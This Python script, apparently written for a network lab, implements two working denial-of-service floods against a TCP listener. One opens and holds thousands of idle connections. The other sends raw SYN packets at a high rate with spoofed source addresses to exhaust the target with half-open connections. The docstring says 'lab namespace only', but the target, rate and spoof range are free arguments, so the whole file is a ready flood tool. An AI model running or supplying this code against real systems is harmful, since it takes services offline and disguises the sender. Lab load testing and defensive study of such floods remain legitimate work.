#!/usr/bin/env python3
"""Floods at a TCP listener, from a lab namespace only (FloodLabTest):

  tcp_flood.py connect --dst 198.18.5.2 --port 80 --count 4000 --hold 15
      opens up to COUNT connections as fast as the kernel lets it and holds them open, silent, for HOLD seconds
  tcp_flood.py syn --dst 198.18.5.2 --port 80 --rate 20000 --seconds 10 --src-prefix 198.18.5. --src-from 100 --src-to 250
      raw SYNs from addresses nobody owns (half-open connections: the SYN-ACKs go nowhere)

Prints one line: what was done.
"""
import argparse
import random
import socket
import struct
import sys
import time


def connect_flood(a):
    socks, failed = [], 0
    end = time.time() + a.hold
    for _ in range(a.count):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        try:
            s.connect_ex((a.dst, a.port))
            socks.append(s)
        except OSError:
            failed += 1
            s.close()
        if time.time() > end:
            break
    opened = len(socks)
    time.sleep(max(0, end - time.time()))
    established = 0
    for s in socks:
        try:
            s.getpeername()
            established += 1
        except OSError:
            pass
        s.close()
    print("connect: %d sockets opened, %d established at the end, %d failed to open" % (opened, established, failed))


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def syn_flood(a):
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    dst = socket.inet_aton(a.dst)
    sent, t0 = 0, time.time()
    while time.time() - t0 < a.seconds:
        slice_end = time.time() + 0.001
        for _ in range(max(1, a.rate // 1000)):
            src = socket.inet_aton(a.src_prefix + str(random.randint(a.src_from, a.src_to)))
            sport = random.randint(1024, 65535)
            tcp = struct.pack("!HHIIBBHHH", sport, a.port, random.getrandbits(32), 0, 5 << 4, 0x02, 65535, 0, 0)
            pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
            tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
            ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), random.getrandbits(16), 0, 64, socket.IPPROTO_TCP, 0, src, dst)
            try:
                raw.sendto(ip + tcp, (a.dst, 0))
                sent += 1
            except OSError:
                pass
        delay = slice_end - time.time()
        if delay > 0:
            time.sleep(delay)
    print("syn: %d sent in %.2f s" % (sent, time.time() - t0))


def main():
    p = argparse.ArgumentParser()
    p.add_argument("mode", choices=["connect", "syn"])
    p.add_argument("--dst", required=True)
    p.add_argument("--port", type=int, default=80)
    p.add_argument("--count", type=int, default=4000)
    p.add_argument("--hold", type=float, default=15)
    p.add_argument("--rate", type=int, default=20000)
    p.add_argument("--seconds", type=float, default=10)
    p.add_argument("--src-prefix", default="198.18.5.")
    p.add_argument("--src-from", type=int, default=100)
    p.add_argument("--src-to", type=int, default=250)
    a = p.parse_args()
    connect_flood(a) if a.mode == "connect" else syn_flood(a)


if __name__ == "__main__":
    sys.exit(main())
